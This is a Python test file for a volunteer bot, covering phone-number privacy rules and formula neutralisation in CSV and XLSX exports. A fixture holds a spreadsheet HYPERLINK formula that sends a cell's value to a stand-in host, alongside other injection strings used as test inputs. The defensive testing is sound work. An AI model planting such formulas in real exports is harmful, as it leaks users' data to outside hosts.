"""Phone numbers as personal data (issue 10, items 8, 9, 12 and 13): no answer tells whether
someone else's number is registered, a verified contact beats a typed number, leads see numbers
only while they need them, and exports never carry a live formula."""

from __future__ import annotations

import csv
import zipfile
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest

from bot.clock import ManualClock
from bot.domain.errors import NotTeamLead, PhoneMustBeShared, PhoneTaken
from bot.domain.spreadsheet import csv_cell
from bot.services import Services
from bot.services.activity_changes import PHONES_KEPT
from bot.services.exports import write_export
from storage.db import Database
from storage.reports import EXPORT_COLUMNS
from tests.conftest import ADMIN_ID
from tests.service.test_activities import draft
from tests.wording import en

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"详情")'
LABELS = {"phone_verified": "是", "phone_unverified": "否"}
HEADER = list(EXPORT_COLUMNS)


async def _outbox(db: Database, chat_id: int) -> list[tuple[str, str]]:
    async with db.reader.execute(
        "SELECT kind, text FROM outbox WHERE chat_id = ? ORDER BY id", (chat_id,)
    ) as cursor:
        return [(row[0], row[1]) for row in await cursor.fetchall()]


async def _stored_phone(db: Database, volunteer_id: int) -> tuple[str, int]:
    async with db.reader.execute(
        "SELECT phone, phone_verified FROM volunteers WHERE id = ?", (volunteer_id,)
    ) as cursor:
        row = await cursor.fetchone()
    assert row is not None
    return row[0], row[1]


# ------------------------------------------------------------------ item 8


async def test_item8_phone_edit_probes_are_limited(
    services: Services, clock: ManualClock, register
) -> None:
    """/profile → phone used to answer "registered to another account" for every typed number,
    without limit. Now a typed number someone holds gets the answer any refused typed number
    gets, and typed numbers share registration's limit of 3 an hour."""
    await register(1, phone="13800138000")
    await register(2, phone="13900139000")
    registration = services.registration
    refusals = []
    for guess in ("13800138000", "13700137000", "13800138000"):
        try:
            await registration.change_phone(2, guess)
        except PhoneMustBeShared as error:
            refusals.append(error.key)
    # The free number went through (and counted); the taken one got the generic answer.
    assert refusals == ["error.phone_must_be_shared"] * 2
    assert (await registration.volunteer(2)).phone == "+8613700137000"
    # The limit is reached: now even a free number typed gets the very same answer ...
    with pytest.raises(PhoneMustBeShared) as free:
        await registration.change_phone(2, "13600136000")
    assert free.value.key == refusals[0]
    # ... and so does registration for this person, which shares the same count.
    with pytest.raises(PhoneMustBeShared):
        await registration.check_phone_available(2, "13500135000", shared=False)
    # A shared contact (the person's own number, proven) is still accepted.
    shared = await registration.change_phone(2, "13600136000", shared=True)
    assert (shared.phone, shared.phone_verified) == ("+8613600136000", True)
    clock.advance(timedelta(hours=1, seconds=1))  # an hour later, typing works again
    assert (await registration.change_phone(2, "13400134000")).phone == "+8613400134000"


async def test_item8_registration_answers_a_taken_number_like_any_refusal(
    services: Services, register
) -> None:
    await register(1, phone="13800138000")
    registration = services.registration
    with pytest.raises(PhoneMustBeShared) as taken:
        await registration.check_phone_available(5, "13800138000", shared=False)
    with pytest.raises(PhoneMustBeShared) as at_consent:
        await registration.register(5, "李四", "13800138000", ["traffic"], consent=True)
    assert taken.value.key == at_consent.value.key == "error.phone_must_be_shared"
    # A shared contact of a typed number is the owner's: accepted, nothing said about anyone.
    assert await registration.check_phone_available(5, "13800138000", shared=True)


# ------------------------------------------------------------------ item 9


async def test_item9_a_verified_contact_takes_a_typed_number_over(
    services: Services, db: Database, register
) -> None:
    squatter = await register(1, name="王五", phone="13800138000")
    assert not squatter.phone_verified
    await services.accounts.seen(1, "en")
    owner = await services.registration.register(
        2, "张三", "+86 138 0013 8000", ["traffic"], consent=True, phone_shared=True
    )
    assert (owner.phone, owner.phone_verified) == ("+8613800138000", True)
    left = await services.registration.volunteer(1)
    assert left is not None and (left.phone, left.phone_verified) == ("", False)
    # The placeholder never reads as a number, nor matches an admin's search by digits.
    stored, _ = await _stored_phone(db, squatter.id)
    assert not stored.startswith("+86")
    admin = await services.roles.actor(ADMIN_ID)
    for fragment in (f"released:{squatter.id}", "released"):
        assert [v.id for v in await services.roles.search(admin, fragment)] == []
    # The squatter is told, in their language, through the outbox, to confirm their own.
    [(kind, text)] = await _outbox(db, 1)
    assert kind == "phone_released" and text == en("phone.released")
    assert "13800138000" not in text
    # They confirm their own number by sharing it.
    mine = await services.registration.change_phone(1, "13900139000", shared=True)
    assert (mine.phone, mine.phone_verified) == ("+8613900139000", True)
    # A verified number is not taken over: the owner is told their own number is in use.
    with pytest.raises(PhoneTaken):
        await services.registration.register(
            3, "赵六", "13800138000", ["traffic"], consent=True, phone_shared=True
        )
    with pytest.raises(PhoneTaken):
        await services.registration.change_phone(1, "13800138000", shared=True)
    # Typing never takes a number from anyone.
    with pytest.raises(PhoneMustBeShared):
        await services.registration.register(4, "钱七", "13900139000", ["traffic"], consent=True)


async def test_item9_typing_ones_own_number_again_keeps_it_verified(
    services: Services, register
) -> None:
    await services.registration.register(
        1, "张三", "13800138000", ["traffic"], consent=True, phone_shared=True
    )
    again = await services.registration.change_phone(1, "13800138000")
    assert again.phone_verified
    typed = await services.registration.change_phone(1, "13700137000")
    assert (typed.phone, typed.phone_verified) == ("+8613700137000", False)


async def test_item9_exports_say_which_numbers_are_verified(
    services: Services, register, tmp_path: Path
) -> None:
    typed = await register(1, name="王五", phone="13800138000")
    shared = await services.registration.register(
        2, "张三", "13900139000", ["traffic"], consent=True, phone_shared=True
    )
    admin = await services.roles.actor(ADMIN_ID)
    for volunteer in (typed, shared):
        await services.records.add_manual(
            admin, volunteer.id, "traffic", date(2026, 11, 24), 60, "路口劝导", "纸质签到表"
        )
    start, end = date(2026, 11, 1), date(2026, 12, 1)
    out = tmp_path / "records.csv"
    await services.exports.export(admin, None, start, end, "csv", out, HEADER, LABELS, "r")
    with out.open(encoding="utf-8-sig") as handle:
        rows = [dict(zip(HEADER, row, strict=True)) for row in list(csv.reader(handle))[1:]]
    assert {(r["volunteer"], r["phone_verified"]) for r in rows} == {("王五", "否"), ("张三", "是")}
    xlsx = tmp_path / "records.xlsx"
    await services.exports.export(admin, None, start, end, "xlsx", xlsx, HEADER, LABELS, "r")
    sheet = openpyxl.load_workbook(xlsx, read_only=True).active
    assert sheet is not None
    column = HEADER.index("phone_verified")
    cells = {(r[1], r[column]) for r in list(sheet.iter_rows(values_only=True))[1:]}
    assert cells == {("王五", "否"), ("张三", "是")}


# ------------------------------------------------------------------ item 12


async def test_item12_leads_see_phones_until_a_day_after_the_end(
    services: Services, clock: ManualClock, register
) -> None:
    lead = await register(10, name="张队长", phone="13700000010", teams=("traffic",))
    other_lead = await register(11, name="王队长", phone="13700000011", teams=("blood",))
    admin = await services.roles.actor(ADMIN_ID)
    await services.roles.promote(admin, lead.id, "traffic")
    await services.roles.promote(admin, other_lead.id, "blood")
    activity = await services.activities.create(admin, draft(clock))
    await register(20, name="李四", phone="13800000020", teams=("blood",))  # another team's
    await services.signups.sign_up(20, activity.id)
    as_lead = await services.roles.actor(10)

    async def phones(actor_id: int) -> list[str]:
        actor = admin if actor_id == ADMIN_ID else await services.roles.actor(actor_id)
        _, confirmed, _ = await services.activity_changes.roster(actor, activity.id)
        return [v.phone for v in confirmed]

    assert await phones(10) == ["+8613800000020"]
    clock.advance(activity.ends_at + PHONES_KEPT - timedelta(minutes=1) - clock.now())
    assert await phones(10) == ["+8613800000020"]
    clock.advance(timedelta(minutes=1))
    assert await phones(10) == ["+86138****0020"]
    assert not services.activity_changes.phones_shown(as_lead, activity)
    assert await phones(ADMIN_ID) == ["+8613800000020"], "admins keep seeing them"
    with pytest.raises(NotTeamLead):
        await phones(11)


# ------------------------------------------------------------------ item 13


async def test_item13_csv_export_neutralises_formulas(
    services: Services, register, tmp_path: Path
) -> None:
    volunteer = await register(1, name="王五", phone="13800138000")
    admin = await services.roles.actor(ADMIN_ID)
    await services.records.add_manual(
        admin, volunteer.id, "traffic", date(2026, 11, 24), 60, FORMULA, "纸质签到表"
    )
    start, end = date(2026, 11, 1), date(2026, 12, 1)
    out = tmp_path / "records.csv"
    await services.exports.export(admin, None, start, end, "csv", out, HEADER, LABELS, "r")
    with out.open(encoding="utf-8-sig") as handle:
        [row] = [dict(zip(HEADER, r, strict=True)) for r in list(csv.reader(handle))[1:]]
    assert row["activity"] == row["content"] == "'" + FORMULA
    assert row["phone"] == "'+8613800138000", "text, neither a formula nor a number"
    assert row["hours"] == "1.0" and row["record_id"].isdigit(), "numbers stay numbers"
    # XLSX: the same text, as an inline string cell (never a formula); the phone a string.
    xlsx = tmp_path / "records.xlsx"
    await services.exports.export(admin, None, start, end, "xlsx", xlsx, HEADER, LABELS, "r")
    with zipfile.ZipFile(xlsx) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    values = list(openpyxl.load_workbook(xlsx, read_only=True).active.iter_rows(values_only=True))
    assert values[1][HEADER.index("activity")] == FORMULA
    assert values[1][HEADER.index("phone")] == "+8613800138000"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86138", "'+86138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("人民路 = 中山路", "人民路 = 中山路"),
        ("", ""),
        (-1.5, -1.5),
        (42, 42),
    ],
)
def test_item13_csv_cells_that_could_be_formulas_get_a_quote(
    value: object, written: object
) -> None:
    assert csv_cell(value) == written


def test_item13_the_csv_header_is_neutralised_too(tmp_path: Path) -> None:
    rows: list[list[object]] = [
        ["=cmd", 1, "+86", "是", "@a", "2026-11-24", "-x", "c", 1.5, "t", "p", "s", "m"]
    ]
    header = ["=H" for _ in EXPORT_COLUMNS]
    out = tmp_path / "x.csv"
    assert write_export(rows, out, "csv", header) == 1
    with out.open(encoding="utf-8-sig") as handle:
        written = list(csv.reader(handle))
    assert written[0] == ["'=H"] * len(EXPORT_COLUMNS)
    assert written[1][:7] == ["'=cmd", "1", "'+86", "是", "'@a", "2026-11-24", "'-x"]
